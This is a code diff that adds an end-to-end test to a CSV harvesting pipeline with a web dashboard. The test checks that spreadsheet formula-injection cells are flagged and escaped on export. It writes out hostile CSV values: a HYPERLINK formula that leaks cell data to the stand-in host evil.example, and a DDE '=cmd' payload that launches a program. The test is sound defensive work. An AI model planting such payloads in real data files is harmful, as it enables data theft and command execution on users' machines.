@@ -1,6 +1,7 @@
 import { createHash } from 'node:crypto';
 import iconv from 'iconv-lite';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createApiToken } from '@hasad/db';
 import { FeedServer, type FeedResponse } from '@hasad/testkit';
 import { startTestPipeline, type TestPipeline } from './helpers/pipeline.ts';
 
@@ -187,5 +188,82 @@ describe('CSV harvest end to end', () => {
       expect((await p.datasets(sourceId)).get('eau-08')!.record['modified']).toBeUndefined();
       expect((await p.datasets(sourceId)).has('eau-09')).toBe(false);
     });
+  });
+});
+
+describe('CSV formula injection (issue 4 hostile case), end to end', () => {
+  let p: TestPipeline;
+  let server: FeedServer;
+  let api: string;
+
+  beforeAll(async () => {
+    p = await startTestPipeline(['api', 'fetcher', 'loader'], { PORT: '0' });
+    server = await FeedServer.start();
+    api = p.rt.apiUrl!.replace('//0.0.0.0:', '//127.0.0.1:').replace('//[::]:', '//[::1]:');
+  });
+  afterAll(async () => {
+    await p?.close();
+    await server?.close();
+  });
+
+  /** Signs in to the dashboard with an operator token through its form, over HTTP; returns the Cookie header. */
+  async function signIn(): Promise<string> {
+    const token = (await createApiToken(p.rt.db.db, { role: 'operator', operatorName: 'Opératrice de test' })).token;
+    const jar = new Map<string, string>();
+    const keep = (res: Response) => {
+      for (const c of res.headers.getSetCookie()) {
+        const [pair] = c.split(';');
+        const i = pair!.indexOf('=');
+        jar.set(pair!.slice(0, i), pair!.slice(i + 1));
+      }
+    };
+    const cookie = () => [...jar].map(([k, v]) => `${k}=${v}`).join('; ');
+    const form = await fetch(`${api}/dashboard/sign-in`);
+    keep(form);
+    const csrf = /name="_csrf" value="([^"]*)"/.exec(await form.text())?.[1] ?? '';
+    const res = await fetch(`${api}/dashboard/sign-in`, {
+      method: 'POST',
+      redirect: 'manual',
+      headers: { cookie: cookie(), 'content-type': 'application/x-www-form-urlencoded' },
+      body: new URLSearchParams({ _csrf: csrf, next: '/dashboard', token }).toString(),
+    });
+    expect(res.status).toBe(303);
+    keep(res);
+    return cookie();
+  }
+
+  it('flags the formula cells, keeps the values as data, and the dashboard problems.csv neutralises them', async () => {
+    const lines = [
+      'Identifiant;Titre;Description;Mots-clés;Date de mise à jour',
+      'eau-01;=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici");Analyses mensuelles;eau;15/01/2024',
+      "=cmd|' /C calc'!A0;Barrages;@SUM(A1:A9);barrages;04/03/2024",
+      'eau-03;Données pluviométriques;Cumuls journaliers;pluie;29/02/2024',
+    ];
+    server.route('/hostile/inventaire.csv', { body: iconv.encode(`${lines.join('\r\n')}\r\n`, 'windows-1252'), contentType: 'text/csv' });
+    const sourceId = await p.addSource(`${server.url}/hostile/inventaire.csv`, { kind: 'csv', config: FRENCH_CONFIG });
+    const run = await p.harvest(sourceId);
+    expect(run, JSON.stringify(await p.problems(run.id))).toMatchObject({ status: 'succeeded', seen: 3, created: 3, invalid: 0 });
+    const rows = await p.datasets(sourceId);
+    expect(rows.get('eau-01')!.title).toEqual({ fr: '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")' });
+    expect(rows.get("=cmd|' /C calc'!A0")!.record).toMatchObject({ description: { fr: '@SUM(A1:A9)' } });
+    const flagged = (await p.problems(run.id)).filter((x) => x.code === 'csv_formula_cell');
+    expect(flagged.map((x) => [x.severity, x.identifier])).toEqual([
+      ['warning', 'eau-01'],
+      ['warning', "=cmd|' /C calc'!A0"],
+      ['warning', "=cmd|' /C calc'!A0"],
+    ]);
+    expect(flagged[0]!.message).toContain('column "Titre" (title.fr)');
+
+    const cookie = await signIn();
+    const res = await fetch(`${api}/dashboard/runs/${run.id}/problems.csv`, { headers: { cookie } });
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    const csv = (await res.text()).replace(/^\uFEFF/, '').trim().split('\r\n');
+    expect(csv[0]).toBe('page,batch,severity,code,field,identifier,message');
+    const exported = csv.filter((l) => l.includes('"csv_formula_cell"'));
+    expect(exported).toHaveLength(3);
+    // The formula identifier comes out as text ('=cmd…), and no cell of the file starts a formula.
+    expect(exported[1]).toContain(`"'=cmd|' /C calc'!A0"`);
+    expect(csv.filter((l) => /(^|,)"[=+\-@\t\r]/.test(l))).toEqual([]);
   });
 });
